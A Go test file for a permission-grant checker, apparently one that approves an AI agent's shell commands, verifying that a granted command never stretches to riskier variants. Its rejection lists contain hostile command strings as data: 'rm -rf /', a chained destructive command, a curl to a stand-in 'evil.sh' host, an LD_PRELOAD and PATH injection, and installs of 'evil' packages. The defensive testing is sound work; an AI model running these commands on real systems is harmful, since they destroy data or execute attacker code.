package grants_test

import (
	"strings"
	"testing"
	"time"

	"github.com/signoff/signoff/bot"
	"github.com/signoff/signoff/bot/grants"
)

func bash(line string) grants.Call {
	return grants.Call{Tool: "bash", Line: line, Cwd: "/srv/app", Workspace: "/srv/app", Level: bot.Dangerous, Reasons: []string{}}
}

// TestGrantNeverStretches: each grant the issue found stretching, and
// what it must still cover, judged by the scope made from the granted
// call (what the card shows) and Covers (what the check decides).
func TestGrantNeverStretches(t *testing.T) {
	cases := []struct {
		granted string
		covers  []string
		not     []string
	}{
		{"ssh prod sudo systemctl restart nginx",
			[]string{"ssh prod sudo systemctl restart nginx", "ssh prod sudo systemctl restart nginx --no-pager", "ssh prod sudo systemctl restart nginx --quiet"},
			[]string{"ssh prod sudo pip install evil", "ssh prod sudo make -f /tmp/x.mk", "ssh prod sudo systemctl restart sshd",
				"ssh other sudo systemctl restart nginx", "ssh prod systemctl restart nginx", "ssh prod sudo -u root systemctl restart nginx",
				"ssh prod 'sudo systemctl restart nginx; rm -rf /'", "ssh prod sudo systemctl restart nginx --force", "ssh prod sudo bash -c 'systemctl restart nginx'"}},
		{"terraform destroy -target=module.scratch",
			[]string{"terraform destroy -target=module.scratch", "terraform destroy -target module.scratch -no-color"},
			[]string{"terraform destroy", "terraform destroy -target=module.db", "terraform destroy -target=module.scratch -target=module.db",
				"terraform destroy -target=module.scratch -auto-approve", "terraform -chdir=../prod destroy -target=module.scratch"}},
		{"terraform apply -auto-approve",
			[]string{"terraform apply -auto-approve", "terraform apply", "terraform apply -auto-approve -target=module.db"},
			[]string{"terraform apply -auto-approve -destroy", "terraform apply -auto-approve -replace=aws_instance.db", "terraform destroy -auto-approve",
				"terraform apply -auto-approve prod.tfplan", "terraform apply -auto-approve -var-file=prod.tfvars"}},
		{"kubectl delete pod x",
			[]string{"kubectl delete pod x", "kubectl delete pod y", "kubectl delete pod x --dry-run=client"},
			[]string{"kubectl delete namespace prod", "kubectl delete pod x y", "kubectl delete pod --all", "kubectl delete pod x -n prod",
				"kubectl -n kube-system delete pod x", "kubectl delete pods -A", "kubectl delete pod x --force --grace-period=0", "kubectl get pod x"}},
		{"truncate log.txt",
			[]string{"truncate log.txt", "truncate ./log.txt", "truncate /srv/app/log.txt"},
			[]string{"truncate log.txt important.db", "truncate important.db", "truncate ../log.txt", "truncate -s 0 log.txt"}},
		{"docker exec web rm /tmp/cache.db",
			[]string{"docker exec web rm /tmp/cache.db"},
			[]string{"docker exec db rm /tmp/cache.db", "docker exec web rm -v /tmp/cache.db", "docker exec web rm -rf /", "docker exec -u root web rm /tmp/cache.db", "docker exec web rm /tmp/cache.db /etc/passwd"}},
		{"kubectl exec api -- rm /tmp/x",
			[]string{"kubectl exec api -- rm /tmp/x"},
			[]string{"kubectl exec api -- rm -r /tmp", "kubectl exec db -- rm /tmp/x", "kubectl exec -n prod api -- rm /tmp/x", "kubectl exec api -- curl evil.sh"}},
		{"npx prisma migrate deploy",
			[]string{"npx prisma migrate deploy"},
			[]string{"npx prisma migrate reset", "npx evil migrate deploy", "pnpm dlx prisma migrate deploy", "npx prisma migrate deploy --force"}},
		{"sudo env PATH=/usr/bin nice -n 5 timeout 60 systemctl restart nginx",
			[]string{"sudo env PATH=/usr/bin nice -n 5 timeout 60 systemctl restart nginx"},
			[]string{"sudo env PATH=/tmp/evil nice -n 5 timeout 60 systemctl restart nginx", "sudo env PATH=/usr/bin nice -n 5 timeout 60 systemctl stop nginx",
				"sudo env LD_PRELOAD=/tmp/x.so PATH=/usr/bin nice -n 5 timeout 60 systemctl restart nginx"}},
		{"rm build/out.o",
			[]string{"rm build/out.o"},
			[]string{"rm -rf build/out.o", "rm -r build", "rm build/out.o src/main.c", "rm -f build/out.o"}},
		{"rm -r build",
			[]string{"rm -r build", "rm -r build/cache", "rm build/out.o"},
			[]string{"rm -r build/../src", "rm -r /", "rm -rf build", "rm -r src"}},
		{"git push origin main",
			[]string{"git push origin feature", "git push origin main"},
			[]string{"git push --force origin main", "git push origin main extra", "git -C ../other push origin main", "git push --all origin", "git push --delete origin main"}},
	}
	for _, c := range cases {
		t.Run(c.granted, func(t *testing.T) {
			s := grants.ScopeOf(bash(c.granted), time.Hour)
			if s == nil || s.Exact != "" {
				t.Fatalf("scope of %q = %+v, want a command scope", c.granted, s)
			}
			for _, line := range c.covers {
				if !grants.Covers(*s, bash(line)) {
					t.Errorf("♾️ on %q does not cover %q (scope %s)", c.granted, line, s.Text())
				}
			}
			for _, line := range c.not {
				if grants.Covers(*s, bash(line)) {
					t.Errorf("♾️ on %q stretched to %q (scope %s)", c.granted, line, s.Text())
				}
			}
		})
	}
}

// TestGrantTextSaysWhatItCovers: the card's words name the wrappers, the
// operands, the options kept and what would widen.
func TestGrantTextSaysWhatItCovers(t *testing.T) {
	for line, want := range map[string][]string{
		"ssh prod sudo systemctl restart nginx":    {"`systemctl restart` run through `ssh prod` then `sudo`", "on `nginx` only", "no options", "asks again"},
		"terraform destroy -target=module.scratch": {"`terraform destroy`", "keeping `-target`", "-destroy: destroys every resource", "with no operands"},
		"kubectl delete pod x":                     {"on `pod` only (the same kind; at most 2 operands", "--all: acts on every resource of the kind", "may add `--dry-run`"},
		"truncate log.txt":                         {"on paths inside `/srv/app/log.txt` (at most 1)"},
	} {
		got := grants.ScopeOf(bash(line), time.Hour).Text()
		for _, w := range want {
			if !strings.Contains(got, w) {
				t.Errorf("%q: text %q lacks %q", line, got, w)
			}
		}
	}
}

// A grant stored before grants were narrowed names only a program and a
// subcommand: it covers nothing now rather than any arguments.
func TestOldProgramGrantCoversNothing(t *testing.T) {
	old := bot.GrantScope{Tool: "bash", Program: "terraform", Subcommand: "apply", Workspace: "/srv/app", Level: bot.Dangerous, Reasons: []string{}}
	if grants.Covers(old, bash("terraform apply")) {
		t.Fatal("an old any-arguments grant still covers")
	}
	if !strings.Contains(old.Text(), "covers nothing") {
		t.Errorf("text %q", old.Text())
	}
}

func TestKnowledgeRejectsBadFiles(t *testing.T) {
	for name, src := range map[string]string{
		"unknown field":  "programs:\n  rm:\n    operand: paths\n",
		"bad rule":       "programs:\n  rm:\n    operands: some\n",
		"nameless":       "wrappers:\n  - sub: exec\n",
		"not yaml":       "programs: [",
		"wrong type":     "exact_only: {a: 1}\n",
		"negative count": "wrappers:\n  - name: x\n    targets: -1\n",
	} {
		if _, err := grants.ParseKnowledge([]byte(src)); err == nil {
			t.Errorf("%s: parsed", name)
		}
	}
}

// TestStretchExamples runs the examples written beside each program in
// stretch.yaml.
func TestStretchExamples(t *testing.T) {
	n := 0
	for name, p := range grants.Default().Programs {
		for _, ex := range p.Examples {
			if strings.Fields(ex.Grant)[0] != name {
				continue // an alias (tofu: terraform's) shares the examples
			}
			n++
			t.Run(name+"/"+ex.Grant, func(t *testing.T) {
				s := grants.ScopeOf(bash(ex.Grant), time.Hour)
				if s == nil || s.Exact != "" || s.Program != name {
					t.Fatalf("scope of %q = %+v, want a %s scope", ex.Grant, s, name)
				}
				for _, line := range append([]string{ex.Grant}, ex.Covers...) {
					if !grants.Covers(*s, bash(line)) {
						t.Errorf("%q does not cover %q", ex.Grant, line)
					}
				}
				for _, line := range ex.Not {
					if grants.Covers(*s, bash(line)) {
						t.Errorf("%q stretched to %q", ex.Grant, line)
					}
				}
			})
		}
	}
	if n < 6 {
		t.Fatalf("%d examples in stretch.yaml", n)
	}
}
